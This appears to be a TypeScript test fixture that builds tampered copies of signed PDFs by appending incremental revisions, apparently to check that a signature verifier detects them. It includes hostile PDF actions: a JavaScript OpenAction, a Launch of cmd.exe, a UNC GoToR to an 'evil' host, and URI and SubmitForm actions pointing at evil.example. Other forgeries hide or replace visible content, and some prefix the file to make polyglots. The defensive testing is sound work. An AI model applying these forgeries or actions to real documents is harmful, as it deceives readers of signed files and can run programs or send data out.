import { deflateSync, inflateSync } from 'node:zlib';
import type { Forged, Victim } from '../support/pdf-forgery.js';

/** Changes to a sealed copy, by name. */
export type Forgeries = Readonly<Record<string, (victim: Victim) => Buffer>>;

const BLOCK = '1 1 1 rg 0 0 600 850 re f 0 0 0 rg BT /F9 30 Tf 60 500 Td (Now at half the price) Tj ET';
const HELVETICA = '<< /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>';
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const stream = (text: string, entries = ''): Forged[number] => ({ entries, stream: text });
const refs = (numbers: readonly number[]): string => `[${numbers.map((one) => `${one} 0 R`).join(' ')}]`;

/** The catalogue with additional entries. */
const catalogue =
  (entries: (free: number) => Record<string, string>, more: (free: number) => Forged = () => ({})) =>
  (victim: Victim): Buffer =>
    victim.append({ [victim.root]: victim.with(victim.root, entries(victim.free)), ...more(victim.free) });

/** The first page with other entries. */
const page =
  (entries: (victim: Victim) => Record<string, string | null>, more: (free: number) => Forged = () => ({})) =>
  (victim: Victim): Buffer =>
    victim.append({
      [victim.pageNumber(0)]: victim.with(victim.pageNumber(0), entries(victim)),
      ...more(victim.free),
    });

/** The first page's drawing between two drawings of the forger. */
function around(
  victim: Victim,
  before: string,
  after: string,
  resources: Record<string, string>,
  more: Forged = {},
): Buffer {
  const { free } = victim;
  const contents = refs([free, ...victim.contents(0), free + 1]);
  return victim.append({
    [victim.pageNumber(0)]: victim.pageWithResources(0, resources, { Contents: contents }),
    [free]: stream(before),
    [free + 1]: stream(after),
    ...more,
  });
}

/** A font of the first page with another description. */
const font =
  (entries: Record<string, string>, more: (free: number) => Forged = () => ({})) =>
  (victim: Victim): Buffer =>
    victim.append({
      ...Object.fromEntries(victim.fonts(0).map((object) => [object, victim.with(object, entries)])),
      ...more(victim.free),
    });

const FONTS: Forgeries = {
  'swaps its fonts for another': font({ Subtype: '/Type1', BaseFont: '/Symbol', DescendantFonts: 'null' }),
  'says that its letters are others': (victim) =>
    font({ ToUnicode: `${victim.free} 0 R` }, (free) => ({
      [free]: stream(
        '/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def 1 begincodespacerange <0000> <ffff> endcodespacerange 1 beginbfrange <0000> <ffff> <0041> endbfrange endcmap end end',
      ),
    }))(victim),
  'gives its fonts another encoding': font({
    Subtype: '/Type1',
    BaseFont: '/Helvetica',
    Encoding: '<< /Type /Encoding /Differences [0 /a /b /c /d] >>',
  }),
  'makes its letters as wide as nothing': (victim) =>
    victim.append(
      Object.fromEntries(
        victim.descendants(0).map((object) => [object, victim.with(object, { DW: '0', W: '[0 60000 0]' })]),
      ),
    ),
};

const DRAWING: Forgeries = {
  'covers the page': (victim) => around(victim, 'q', `Q ${BLOCK}`, { Font: HELVETICA }),
  'hides the page in a layer that is off': (victim) => {
    const layer = victim.free + 2;
    const catalog = victim.with(victim.root, {
      OCProperties: `<< /OCGs [${layer} 0 R] /D << /OFF [${layer} 0 R] /Order [] >> >>`,
    });
    return around(
      victim,
      '/OC /Layer BDC',
      'EMC',
      { Properties: `<< /Layer ${layer} 0 R >>` },
      {
        [layer]: '<< /Type /OCG /Name (Old copy) >>',
        [victim.root]: catalog,
      },
    );
  },
  'makes the page transparent': (victim) =>
    around(victim, '/Clear gs', '', { ExtGState: '<< /Clear << /Type /ExtGState /ca 0 /CA 0 >> >>' }),
  'blends the page away': (victim) =>
    around(victim, '', '/Light gs 1 1 1 rg 0 0 600 850 re f', {
      ExtGState: '<< /Light << /Type /ExtGState /BM /Screen >> >>',
    }),
  'writes its words in white': (victim) => {
    const [, words = 0] = victim.contents(0);
    const white = inflateSync(victim.streamOf(words))
      .toString('latin1')
      .replace(/[\d.]+ [\d.]+ [\d.]+ rg/g, '1 1 1 rg');
    return victim.append({
      [words]: { entries: '/Filter /FlateDecode', stream: deflateSync(white).toString('latin1') },
    });
  },
  'clips the page to nothing': (victim) => around(victim, '0 0 1 1 re W n', '', {}),
  'moves the page out of sight': (victim) => around(victim, '1 0 0 1 2000 0 cm', '', {}),
  'draws a form over the page': (victim) =>
    around(
      victim,
      'q',
      'Q /Cover Do',
      { XObject: `<< /Cover ${victim.free + 2} 0 R >>` },
      {
        [victim.free + 2]: stream(
          BLOCK,
          `/Type /XObject /Subtype /Form /BBox [0 0 600 850] /Resources << /Font ${HELVETICA} >>`,
        ),
      },
    ),
};

const PAGES: Forgeries = {
  'crops the page': page(() => ({ CropBox: '[0 400 595 842]' })),
  'makes the sheet smaller': page(() => ({ MediaBox: '[0 400 595 842]' })),
  'shows the page in another measure': page(() => ({ UserUnit: '9' })),
  'turns the page': page(() => ({ Rotate: '180' })),
  'swaps its pages': (victim) =>
    victim.append({
      [victim.pageTree]: victim.with(victim.pageTree, { Kids: refs([victim.pageNumber(1), victim.pageNumber(0)]) }),
    }),
  'leaves a page out': (victim) =>
    victim.append({
      [victim.pageTree]: victim.with(victim.pageTree, { Kids: refs([victim.pageNumber(1)]), Count: '1' }),
    }),
  'adds a page': (victim) =>
    victim.append({
      [victim.pageTree]: victim.with(victim.pageTree, {
        Kids: refs([victim.free, victim.pageNumber(0), victim.pageNumber(1)]),
        Count: '3',
      }),
      [victim.free]: `<< /Type /Page /Parent ${victim.pageTree} 0 R /MediaBox [0 0 595 842] /Resources << /Font ${HELVETICA} >> /Contents ${victim.free + 1} 0 R >>`,
      [victim.free + 1]: stream(BLOCK),
    }),
  'puts another tree of pages in': (victim) =>
    victim.append({
      [victim.root]: victim.with(victim.root, { Pages: `${victim.free} 0 R` }),
      [victim.free]: `<< /Type /Pages /Kids ${refs([victim.free + 1])} /Count 1 >>`,
      [victim.free + 1]:
        `<< /Type /Page /Parent ${victim.free} 0 R /MediaBox [0 0 595 842] /Resources << /Font ${HELVETICA} >> /Contents ${victim.free + 2} 0 R >>`,
      [victim.free + 2]: stream(BLOCK),
    }),
  'shows another page’s content': page((victim) => ({ Contents: refs(victim.contents(1)) })),
};

const ANNOTATIONS: Forgeries = {
  'replaces its links': page(
    (victim) => ({ Annots: `[${victim.free} 0 R]` }),
    (free) => ({
      [free]: '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/) >> >>',
    }),
  ),
  'takes its links away': (victim) =>
    victim.append({ [victim.pageNumber(1)]: victim.with(victim.pageNumber(1), { Annots: null }) }),
  'covers the page with a remark': page(
    (victim) => ({ Annots: `[${victim.free} 0 R]` }),
    (free) => ({
      [free]: `<< /Type /Annot /Subtype /FreeText /Rect [0 0 595 842] /Contents (Now at half the price) /DA (/Helv 30 Tf) /AP << /N ${free + 1} 0 R >> >>`,
      [free + 1]: stream(
        BLOCK,
        `/Type /XObject /Subtype /Form /BBox [0 0 600 850] /Resources << /Font ${HELVETICA} >>`,
      ),
    }),
  ),
  'brings a form whose values the reader draws': (victim) =>
    victim.append({
      [victim.root]: victim.with(victim.root, {
        AcroForm: `<< /NeedAppearances true /Fields [${victim.free} 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`,
      }),
      [victim.pageNumber(0)]: victim.with(victim.pageNumber(0), { Annots: `[${victim.free} 0 R]` }),
      [victim.free]:
        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /V (Now at half the price) /F 4 /MK << /BG [1 1 1] >> /DA (/Helv 24 Tf 0 g) /Rect [0 300 595 700] >>',
    }),
};

const ACTIONS: Forgeries = {
  'runs a script at its opening': catalogue(() => ({ OpenAction: SCRIPT })),
  'names a script': catalogue(() => ({ Names: `<< /JavaScript << /Names [(x) ${SCRIPT}] >> >>` })),
  'runs a script at its closing': catalogue(() => ({ AA: `<< /WC ${SCRIPT} >>` })),
  'runs a script when a page is opened': page(() => ({ AA: `<< /O ${SCRIPT} >>` })),
  'starts a program': catalogue(() => ({ OpenAction: '<< /S /Launch /F (cmd.exe) >>' })),
  'opens another file': catalogue(() => ({ OpenAction: '<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [0 /Fit] >>' })),
  'opens an address': catalogue(() => ({ OpenAction: '<< /S /URI /URI (https://evil.example/) >>' })),
  'sends its form away': catalogue(() => ({ OpenAction: '<< /S /SubmitForm /F (https://evil.example/) >>' })),
  'carries a file': catalogue(
    (free) => ({ Names: `<< /EmbeddedFiles << /Names [(x.exe) ${free} 0 R] >> >>` }),
    (free) => ({
      [free]: `<< /Type /Filespec /F (x.exe) /EF << /F ${free + 1} 0 R >> >>`,
      [free + 1]: stream('MZ', '/Type /EmbeddedFile'),
    }),
  ),
};

const DESCRIPTIONS: Forgeries = {
  'has another title': (victim) => victim.append({ [victim.info]: victim.with(victim.info, { Title: '(Another)' }) }),
  'has another author in its metadata': catalogue(
    (free) => ({ Metadata: `${free} 0 R` }),
    (free) => ({
      [free]: stream(
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>',
        '/Type /Metadata /Subtype /XML',
      ),
    }),
  ),
  'is read aloud differently': catalogue(() => ({
    MarkInfo: '<< /Marked true >>',
    StructTreeRoot: '<< /Type /StructTreeRoot /K << /Type /StructElem /S /P /ActualText (Half the price) >> >>',
  })),
  'says that it is in another language': catalogue(() => ({ Lang: '(xx)' })),
  'brings a table of contents': catalogue(
    (free) => ({ Outlines: `${free} 0 R` }),
    (free) => ({
      [free]: `<< /Type /Outlines /First ${free + 1} 0 R /Last ${free + 1} 0 R /Count 1 >>`,
      [free + 1]: `<< /Title (Half the price) /Parent ${free} 0 R /A << /S /URI /URI (https://evil.example/) >> >>`,
    }),
  ),
  'opens at full screen': catalogue(() => ({ PageMode: '/FullScreen', ViewerPreferences: '<< /HideMenubar true >>' })),
};

/** Each way to write a revision, with the same text over the page. */
const WRITING: Forgeries = {
  'covers the page by objects in an object stream': (victim) => victim.append(coverOf(victim), 'stream'),
  'covers the page by a hybrid revision': (victim) => victim.append(coverOf(victim), 'hybrid'),
  'says that it is encrypted': (victim) =>
    victim.append({ [victim.free]: '<< >>' }, 'table', ` /Encrypt << /Filter /Standard /V 1 /R 2 /O () /U () /P -4 >>`),
  'frees an object': (victim) => {
    const { bytes, free } = victim;
    const xref = bytes.length;
    const [, words = 0] = victim.contents(0);
    const previous = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(bytes.toString('latin1'))?.[1];
    const tail = `xref\n${words} 1\n0000000000 00001 f \ntrailer\n<< /Size ${free} /Root ${victim.root} 0 R /Prev ${previous} >>\nstartxref\n${xref}\n%%EOF\n`;
    return Buffer.concat([bytes, Buffer.from(tail)]);
  },
  'leads to another object where one stood': (victim) => {
    const [, words = 0] = victim.contents(0);
    const text = victim.bytes.toString('latin1');
    const elsewhere = text.indexOf(`\n${victim.contents(1)[1]} 0 obj`) + 1;
    const previous = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1];
    const tail = `xref\n${words} 1\n${String(elsewhere).padStart(10, '0')} 00000 n \ntrailer\n<< /Size ${victim.free} /Root ${victim.root} 0 R /Prev ${previous} >>\nstartxref\n${text.length}\n%%EOF\n`;
    return Buffer.concat([victim.bytes, Buffer.from(tail)]);
  },
};

const coverOf = (victim: Victim): Forged => ({
  [victim.pageNumber(0)]: victim.pageWithResources(
    0,
    { Font: HELVETICA },
    {
      Contents: refs([...victim.contents(0), victim.free]),
    },
  ),
  [victim.free]: stream(BLOCK),
});

/** Changes that a reader's program displays or acts on. */
export const SHOWN: Readonly<Record<string, Forgeries>> = {
  fonts: FONTS,
  drawing: DRAWING,
  pages: PAGES,
  annotations: ANNOTATIONS,
  actions: ACTIONS,
  descriptions: DESCRIPTIONS,
  'ways of writing': WRITING,
};

const cut = (bytes: Buffer, marker: string): Buffer => bytes.subarray(0, bytes.lastIndexOf(marker));

/** Changes of the bytes that many readers ignore. */
export const BYTES: Forgeries = {
  'begins with an empty line': ({ bytes }) => Buffer.concat([Buffer.from('\n'), bytes]),
  'begins with another file': ({ bytes }) => Buffer.concat([Buffer.from('GIF89a\u0001\u0000'), bytes]),
  'begins as a page': ({ bytes }) => Buffer.concat([Buffer.from('<html><!--'), bytes]),
  'begins as a mail': ({ bytes }) => Buffer.concat([Buffer.from('Subject: x\r\n\r\n'), bytes]),
  'begins as a picture': ({ bytes }) => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), bytes]),
  'ends before its last mark': ({ bytes }) => cut(bytes, '%%EOF'),
  'ends within its table': ({ bytes }) => cut(bytes, 'trailer'),
  'ends with half a revision': (victim) => cut(victim.append({ [victim.free]: '<< >>' }), 'startxref'),
  'ends with half a mark': (victim) => {
    const more = victim.append({ [victim.free]: '<< >>' });
    return more.subarray(0, more.length - 3);
  },
  'has another revision that says nothing': (victim) => victim.append({ [victim.free]: '<< >>' }),
  'carries another file behind it': ({ bytes }) => Buffer.concat([bytes, Buffer.from('PK\u0003\u0004')]),
  'says another version': ({ bytes }) =>
    Buffer.from(bytes.toString('latin1').replace('%PDF-1.7', '%PDF-1.4'), 'latin1'),
  'points back to the master': ({ bytes }) => {
    const text = bytes.toString('latin1');
    const master = /startxref\n(\d+)\n%%EOF/.exec(text)?.[1] ?? '';
    return Buffer.from(text.replace(/startxref\n\d+\n%%EOF\n$/, `startxref\n${master}\n%%EOF\n`), 'latin1');
  },
  'has a comment for a line end': ({ bytes }) =>
    Buffer.from(bytes.toString('latin1').replace(/%%EOF\n$/, '%%EOF % x\n'), 'latin1'),
};
